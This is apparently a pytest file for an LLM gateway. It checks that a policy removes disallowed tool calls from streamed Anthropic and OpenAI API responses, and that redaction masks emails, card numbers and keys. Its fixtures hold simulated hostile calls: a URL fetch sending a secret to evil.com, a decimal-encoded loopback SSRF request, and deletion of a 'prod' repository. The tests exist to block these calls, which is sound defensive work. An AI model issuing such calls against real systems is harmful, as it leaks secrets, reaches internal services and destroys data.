"""The chat door's tool-guard and redaction end-to-end tests, run through the Responses and
Messages doors: the real Rego policy, the real simulator emitting allowed, forbidden and
argument-violating calls (streamed at many chunk sizes), the real SDKs. A blocked call is
removed in the door's own events; a placeholder or a masked value split across chunks is
still restored or masked."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anthropic
import httpx
import openai
import pytest

from simulator import RunningSimulator
from tests.harness import openai_upstream, recorded
from tests.redaction.conftest import key_for, redaction_config
from tests.servers import TEST_KEY, RunningGateway, gateway_config, running_gateway

REPO = Path(__file__).parents[2]
POLICY_DATA = """
defaults:
  on_tool_violation: reject
  redact: {request: "off", response: "off", entities: []}
  limits: {max_tokens: 4096, tool_output_max_chars: 4000}
  soft_budget_max_tokens: 1024
data_classes: {}
tenants:
  alpha:
    models: ["*"]
    tools: ["search", "fetch_url"]
    on_tool_violation: strip
    tool_args:
      fetch_url:
        url: {allowed_hosts: ["*.example.com"], allowed_schemes: ["https"]}
"""
SEARCH = {"id": "call_search", "name": "search", "arguments": {"q": "tollgate", "n": 3}}
GOOD = {"id": "call_good", "name": "fetch_url", "arguments": {"url": "https://docs.example.com/a?b=1"}}
BAD = {"id": "call_bad", "name": "fetch_url", "arguments": {"url": "https://evil.com/x?secret=hunter2"}}
SSRF = {"id": "call_ssrf", "name": "fetch_url", "arguments": {"url": "https://2130706433/admin"}}
FORBIDDEN = {"id": "call_forbidden", "name": "delete_repo", "arguments": {"name": "prod"}}
MIXED = [SEARCH, BAD, GOOD, FORBIDDEN, SSRF]
NOTES = [
    "[tollgate] tool call 'fetch_url' blocked by policy: argument 'url': host 'evil.com' is not allowed",
    "[tollgate] tool call 'delete_repo' blocked by policy: the tool is not allowed",
    "[tollgate] tool call 'fetch_url' blocked by policy: argument 'url': address 127.0.0.1 is not public",
]
CHUNK_SIZES = [1, 3, 7, 16, 200]
ANTHROPIC_TOOLS: Any = [{"name": n, "input_schema": {"type": "object"}} for n in ("search", "fetch_url")]
RESPONSES_TOOLS: Any = [
    {"type": "function", "name": n, "parameters": {"type": "object"}} for n in ("search", "fetch_url")
]
EMAIL, CARD, PHONE = "jane.doe@example.com", "4111 1111 1111 1111", "+1 (415) 555-2671"
_IDS = re.compile(r'"(?:id|item_id|response_id)":"[^"]*"')  # what the doors mint
SECRET_TEXT = f"Hi, I am {EMAIL}, card {CARD}, call me on {PHONE}. Thanks!"


@pytest.fixture(scope="module")
def guarded(
    upstream_sim: RunningSimulator, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[RunningGateway]:
    """Tenant alpha (TEST_KEY), decided by the real Rego policy."""
    tmp = tmp_path_factory.mktemp("door-guards")
    policies = tmp / "policies"
    policies.mkdir()
    shutil.copy(REPO / "policies" / "authz.rego", policies / "authz.rego")
    (policies / "data.yaml").write_text(POLICY_DATA)
    config = gateway_config(
        upstreams={"local": openai_upstream(upstream_sim.openai_base_url(0))},
        models={"chat": [{"upstream": "local", "model": "sim-model"}]},
        policy={"dir": str(policies)},
        responses={"sqlite_path": str(tmp / "responses.db")},
    )
    with running_gateway(config) as running:
        yield running


@pytest.fixture(scope="module")
def redacting(
    upstream_sim: RunningSimulator, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[RunningGateway]:
    """The redaction tests' tenants, one per mode (tests/redaction/conftest.py)."""
    db = tmp_path_factory.mktemp("door-redaction") / "responses.db"
    with running_gateway(redaction_config(upstream_sim, responses={"sqlite_path": str(db)})) as running:
        yield running


def _claude(gateway: RunningGateway, key: str = TEST_KEY) -> anthropic.Anthropic:
    return anthropic.Anthropic(base_url=gateway.url, api_key=key, max_retries=0)


def _oai(gateway: RunningGateway, key: str = TEST_KEY) -> openai.OpenAI:
    return openai.OpenAI(base_url=gateway.base_url, api_key=key, max_retries=0)


def _x_sim(calls: list[dict[str, Any]], **extra: Any) -> dict[str, Any]:
    return {"x_sim": {"tool_calls": calls, **extra}}


def _messages_raw(gateway: RunningGateway, body: dict[str, Any], key: str = TEST_KEY) -> str:
    with httpx.stream(
        "POST", f"{gateway.url}/v1/messages", json={**body, "stream": True}, headers={"x-api-key": key}
    ) as r:
        assert r.status_code == 200
        return r.read().decode()


def _responses_raw(gateway: RunningGateway, body: dict[str, Any], key: str = TEST_KEY) -> str:
    with httpx.stream(
        "POST",
        f"{gateway.base_url}/responses",
        json={**body, "stream": True, "store": False},
        headers={"authorization": f"Bearer {key}"},
    ) as r:
        assert r.status_code == 200
        return r.read().decode()


@pytest.mark.parametrize("chunk_chars", CHUNK_SIZES)
def test_messages_stream_removes_blocked_calls(
    guarded: RunningGateway, upstream: RunningSimulator, chunk_chars: int
) -> None:
    body = {
        "model": "chat",
        "max_tokens": 256,
        "tools": ANTHROPIC_TOOLS,
        "messages": [{"role": "user", "content": "go"}],
        **_x_sim(MIXED, chunk_chars=chunk_chars),
    }
    raw = _messages_raw(guarded, body)
    for forbidden in ("delete_repo", "evil.com", "hunter2", "2130706433", "call_bad", "call_forbidden"):
        assert forbidden not in raw.replace("'delete_repo'", "").replace("'evil.com'", "")
    with (
        _claude(guarded) as client,
        client.messages.stream(
            **{k: v for k, v in body.items() if k not in ("x_sim",)}, extra_body={"x_sim": body["x_sim"]}
        ) as stream,
    ):
        final = stream.get_final_message()
    calls = [(b.id, b.name, b.input) for b in final.content if b.type == "tool_use"]
    assert calls == [
        ("call_search", "search", SEARCH["arguments"]),
        ("call_good", "fetch_url", GOOD["arguments"]),
    ]
    text = "".join(b.text for b in final.content if b.type == "text")
    assert text.strip().split("\n") == NOTES
    assert final.stop_reason == "tool_use"


def test_messages_create_removes_blocked_calls(guarded: RunningGateway, upstream: RunningSimulator) -> None:
    with _claude(guarded) as client:
        message = client.messages.create(
            model="chat",
            max_tokens=256,
            tools=ANTHROPIC_TOOLS,
            messages=[{"role": "user", "content": "go"}],
            extra_body=_x_sim(MIXED),
        )
    assert [b.id for b in message.content if b.type == "tool_use"] == ["call_search", "call_good"]
    assert "".join(b.text for b in message.content if b.type == "text").split("\n") == NOTES
    assert message.stop_reason == "tool_use"


@pytest.mark.parametrize("stream", [False, True], ids=["create", "stream"])
def test_messages_with_every_call_blocked_is_a_refusal(
    guarded: RunningGateway, upstream: RunningSimulator, stream: bool
) -> None:
    with _claude(guarded) as client:
        kwargs: Any = {
            "model": "chat",
            "max_tokens": 256,
            "tools": ANTHROPIC_TOOLS,
            "messages": [{"role": "user", "content": "go"}],
            "extra_body": _x_sim([BAD, FORBIDDEN], chunk_chars=5),
        }
        if stream:
            with client.messages.stream(**kwargs) as s:
                message = s.get_final_message()
        else:
            message = client.messages.create(**kwargs)
    assert [b.type for b in message.content] == ["text"]
    assert message.stop_reason == "refusal"
    assert message.content[0].text.count("[tollgate]") == 2  # type: ignore[union-attr]


@pytest.mark.parametrize("chunk_chars", CHUNK_SIZES)
def test_responses_stream_removes_blocked_calls(
    guarded: RunningGateway, upstream: RunningSimulator, chunk_chars: int
) -> None:
    body = {
        "model": "chat",
        "tools": RESPONSES_TOOLS,
        "input": "go",
        **_x_sim(MIXED, chunk_chars=chunk_chars),
    }
    raw = _responses_raw(guarded, body)
    assert "hunter2" not in raw
    assert "call_forbidden" not in raw
    assert '"name":"delete_repo"' not in raw
    with (
        _oai(guarded) as client,
        client.responses.stream(
            model="chat",
            tools=RESPONSES_TOOLS,
            input="go",
            store=False,
            extra_body=body["x_sim"] and {"x_sim": body["x_sim"]},
        ) as stream,
    ):
        final = stream.get_final_response()
    calls = [(i.call_id, i.name, json.loads(i.arguments)) for i in final.output if i.type == "function_call"]
    assert calls == [
        ("call_search", "search", SEARCH["arguments"]),
        ("call_good", "fetch_url", GOOD["arguments"]),
    ]
    assert final.output_text.strip().split("\n") == NOTES


def test_responses_create_removes_blocked_calls_and_all_blocked_is_incomplete(
    guarded: RunningGateway, upstream: RunningSimulator
) -> None:
    with _oai(guarded) as client:
        mixed = client.responses.create(
            model="chat", tools=RESPONSES_TOOLS, input="go", store=False, extra_body=_x_sim(MIXED)
        )
        blocked = client.responses.create(
            model="chat", tools=RESPONSES_TOOLS, input="go", store=False, extra_body=_x_sim([FORBIDDEN])
        )
    assert [i.call_id for i in mixed.output if i.type == "function_call"] == ["call_search", "call_good"]
    assert mixed.status == "completed"
    assert [i.type for i in blocked.output] == ["message"]
    assert blocked.status == "incomplete"
    assert blocked.incomplete_details is not None and blocked.incomplete_details.reason == "content_filter"


def test_offered_tools_not_allowed_are_stripped_through_both_doors(
    guarded: RunningGateway, upstream: RunningSimulator, request_id: str
) -> None:
    shell = {"name": "shell", "input_schema": {"type": "object"}}
    with _claude(guarded) as claude, _oai(guarded) as oai:
        claude.messages.create(
            model="chat",
            max_tokens=8,
            tools=[*ANTHROPIC_TOOLS, shell],
            messages=[{"role": "user", "content": "hi"}],
            extra_headers={"x-request-id": request_id},
        )
        oai.responses.create(
            model="chat",
            input="hi",
            store=False,
            tools=[*RESPONSES_TOOLS, {"type": "function", "name": "shell", "parameters": {}}],
            extra_headers={"x-request-id": request_id},
        )
    sent = recorded(upstream, request_id)
    assert len(sent) == 2
    for one in sent:
        assert [t["function"]["name"] for t in one.body["tools"]] == ["search", "fetch_url"]


@pytest.mark.parametrize("chunk_chars", [1, 2, 3, 5, 11, 64])
def test_tokenize_round_trip_through_both_doors_at_any_split(
    redacting: RunningGateway, upstream: RunningSimulator, chunk_chars: int
) -> None:
    text = f"{SECRET_TEXT} Again: {EMAIL}<{PHONE}>."
    x_sim = {"x_sim": {"echo": True, "chunk_chars": chunk_chars}}
    key = key_for("tokenize")
    with (
        _claude(redacting, key) as claude,
        claude.messages.stream(
            model="chat", max_tokens=512, messages=[{"role": "user", "content": text}], extra_body=x_sim
        ) as stream,
    ):
        assert stream.get_final_text() == text
    with (
        _oai(redacting, key) as oai,
        oai.responses.stream(model="chat", input=text, store=False, extra_body=x_sim) as stream,
    ):
        assert stream.get_final_response().output_text == text


def test_tokenize_sends_placeholders_and_restores_tool_arguments(
    redacting: RunningGateway, upstream: RunningSimulator, request_id: str
) -> None:
    text = f"mail {EMAIL} about {CARD}"
    x_sim = {"x_sim": {"tool_calls": [{"name": "send", "echo": "note"}], "chunk_chars": 3}}
    with _claude(redacting, key_for("tokenize")) as claude:
        message = claude.messages.create(
            model="chat",
            max_tokens=64,
            messages=[{"role": "user", "content": text}],
            tools=[{"name": "send", "input_schema": {"type": "object"}}],
            extra_body=x_sim,
            extra_headers={"x-request-id": request_id},
        )
    [call] = [b for b in message.content if b.type == "tool_use"]
    assert call.input == {"note": text}
    [sent] = recorded(upstream, request_id)
    assert sent.body["messages"][0]["content"] == "mail <EMAIL_1> about <CREDIT_CARD_1>"


@pytest.mark.parametrize("chunk_chars", [1, 2, 4, 9])
def test_masked_values_never_cross_a_split_chunk(
    redacting: RunningGateway, upstream: RunningSimulator, chunk_chars: int
) -> None:
    reply = f"Reach {EMAIL} or {PHONE}; key AKIAIOSFODNN7EXAMPLE."
    masked = "Reach [EMAIL] or [PHONE]; key [AWS_ACCESS_KEY]."
    x_sim = {"x_sim": {"reply": reply, "chunk_chars": chunk_chars}}
    body = {"model": "chat", "max_tokens": 128, "messages": [{"role": "user", "content": "who?"}], **x_sim}
    raw_messages = _messages_raw(redacting, body, key_for("mask"))
    raw_responses = _responses_raw(redacting, {"model": "chat", "input": "who?", **x_sim}, key_for("mask"))
    for stream in (raw_messages, raw_responses):
        raw = _IDS.sub("", stream)  # random hex ids may hold any digits
        assert "AKIA" not in raw
        assert "555" not in raw
        assert "jane" not in raw
    with (
        _claude(redacting, key_for("mask")) as claude,
        claude.messages.stream(
            model="chat", max_tokens=128, messages=[{"role": "user", "content": "who?"}], extra_body=x_sim
        ) as stream,
    ):
        assert stream.get_final_text() == masked
